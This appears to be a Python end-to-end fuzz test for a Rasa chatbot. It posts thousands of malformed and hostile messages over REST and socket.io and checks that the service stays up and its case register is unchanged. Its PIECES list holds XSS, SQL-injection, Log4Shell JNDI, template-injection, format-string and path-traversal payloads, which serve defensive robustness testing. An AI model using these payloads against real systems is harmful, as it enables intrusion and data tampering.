"""Five thousand hostile messages through the REST channel (no 5xx, a normal conversation
afterwards, the register untouched), and hostile events through the widget's socket.io channel,
sent by the vendored socket.io client in headless Chromium (a Python socket.io client needs
aiohttp >= 3.10, which Rasa 3.6 forbids)."""

from __future__ import annotations

import json
import random
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import requests
from playwright.sync_api import sync_playwright

from tests.e2e.conftest import CHROMIUM, FLAGS, Conversation, Stack

MESSAGES = 5000
SENDERS = 400  # spread so that the per-sender pace is not what answers

PIECES = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'; DROP TABLE cases; --", "\" OR 1=1 --",
    "${jndi:ldap://x/a}", "{{7*7}}", "%s%s%s%n", "../../etc/passwd", "\x00\x01\x02\x1b[31m", "\u202eevil\u202c",
    "😀🙈🚀", "Привет мир", "مرحبا", "你好", "ääkkösiä ÅÄÖ", "/affirm{\"consent\": true}", "/restart",
    "/need_staff_training{\"email\": \"x\"}", "\r\n\t", " " * 50, "FD-2026-00001", "kyllä", "ei", "poista tietoni",
    "a" * 1999, "b" * 2500, "\ud83d", "null", "[]", "{}",
]  # fmt: skip
BODIES: list[Any] = [[], None, "hei", 5, {"sender": None, "message": "x"}, {"sender": "s", "message": None},
                     {"sender": ["a"], "message": "x"}, {"sender": "s", "message": {"a": 1}}, {"message": "x"}]  # fmt: skip


def hostile(rng: random.Random) -> bytes:
    roll = rng.random()
    if roll < 0.08:
        return json.dumps(rng.choice(BODIES)).encode()
    if roll < 0.12:
        return rng.choice([b"{broken", b"\xff\xfe\xfd", b"", b'{"sender": "s", "message": "x"', b"[" * 500])
    text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 4)))
    body: dict[str, object] = {"sender": f"fuzz-{rng.randrange(SENDERS)}", "message": text}
    if rng.random() < 0.1:
        body["metadata"] = rng.choice([{"x": "<b>"}, [1, 2], "meta", None])
    return json.dumps(body, ensure_ascii=rng.random() < 0.5).encode("utf-8", errors="surrogatepass")


def snapshot(stack: Stack) -> dict[str, Any]:
    return {c["reference"]: c for c in stack.cases()}


def test_hostile_input_breaks_nothing(stack: Stack) -> None:
    before = snapshot(stack)
    rng = random.Random(2026)
    bodies = [hostile(rng) for _ in range(MESSAGES)]
    url = f"{stack.rasa_url}/webhooks/rest/webhook"
    session = requests.Session()
    session.mount("http://", requests.adapters.HTTPAdapter(pool_maxsize=16))

    def send(body: bytes) -> int:
        return session.post(url, data=body, headers={"Content-Type": "application/json"}, timeout=120).status_code

    with ThreadPoolExecutor(max_workers=16) as pool:
        codes = list(pool.map(send, bodies))
    assert len(codes) == MESSAGES
    assert not [c for c in codes if c >= 500], sorted(set(codes))
    assert set(codes) <= {200, 400, 413, 429}, sorted(set(codes))
    assert codes.count(200) > MESSAGES / 2  # most were real (hostile) messages that got an answer

    # The front door still holds a normal conversation, and the register is as it was.
    conversation = Conversation(stack)
    assert "Kerro omin sanoin" in conversation.say("Hei")
    after = snapshot(stack)
    for reference, case in before.items():
        assert after[reference] == case, reference


SOCKETS = 25
SOCKET_EVENTS = 500  # 20 per socket: within each sender's burst, so every text reaches the dialogue

# In the page: connect the sockets, send every event, and count the bot's answers until they stop coming.
FUZZ_SOCKET = """async ([server, events, sockets]) => {
  const open = [];
  let answers = 0;
  for (let i = 0; i < sockets; i++) {
    const socket = io(server, { transports: ["websocket"], forceNew: true });
    socket.on("bot_uttered", () => { answers += 1; });
    await new Promise((resolve) => socket.on("connect", resolve));
    socket.emit("session_request", { session_id: "socket-fuzz-" + i });
    open.push(socket);
  }
  events.forEach((event, i) => open[i % sockets].emit("user_uttered", event));
  let seen = -1;
  while (seen !== answers) { seen = answers; await new Promise((r) => setTimeout(r, 15000)); }
  const alive = open.filter((socket) => socket.connected).length;
  open.forEach((socket) => socket.close());
  return { answers, alive };
}"""
# A normal conversation through the same socket afterwards.
HELLO = """async (server) => {
  const socket = io(server, { transports: ["websocket"], forceNew: true });
  await new Promise((resolve) => socket.on("connect", resolve));
  socket.emit("session_request", { session_id: "socket-fuzz-after" });
  const answer = new Promise((resolve) => socket.on("bot_uttered", (m) => resolve(m.text)));
  socket.emit("user_uttered", { message: "Hei", session_id: "socket-fuzz-after" });
  const text = await answer;
  socket.close();
  return text;
}"""


def socket_events(rng: random.Random) -> tuple[list[Any], int]:
    """Hostile socket events, and how many of them are texts the dialogue must answer."""
    events: list[Any] = []
    texts = 0
    for i in range(SOCKET_EVENTS):
        session = f"socket-fuzz-{i % SOCKETS}"
        if rng.random() < 0.15:
            events.append(rng.choice([None, 5, "hei", [], {}, {"message": 5, "session_id": session}, {"session_id": session},
                                      {"message": None, "session_id": session}, {"message": ["x"], "session_id": session}]))  # fmt: skip
            continue
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 3))).replace("\ud83d", "?")
        events.append({"message": text, "session_id": session})
        texts += 1
    return events, texts


def test_hostile_events_through_the_widgets_socket_break_nothing(stack: Stack) -> None:
    before = snapshot(stack)
    events, texts = socket_events(random.Random(2027))
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
        page = browser.new_page()
        page.goto(f"{stack.web_url}/")
        page.wait_for_function("() => typeof window.io === 'function'")
        page.set_default_timeout(600_000)
        result = page.evaluate(FUZZ_SOCKET, [stack.rasa_url, events, SOCKETS])
        hello = page.evaluate(HELLO, stack.rasa_url)
        browser.close()
    # Every socket is still connected, and most texts got an answer (some, like "/restart" or a lone
    # "ei", rightly get none; a first run answered 321 of 435).
    assert result["alive"] == SOCKETS
    assert result["answers"] > texts / 2, (result, texts)
    assert "Kerro omin sanoin" in hello
    assert "Kerro omin sanoin" in Conversation(stack).say("Hei")
    after = snapshot(stack)
    for reference, case in before.items():
        assert after[reference] == case, reference
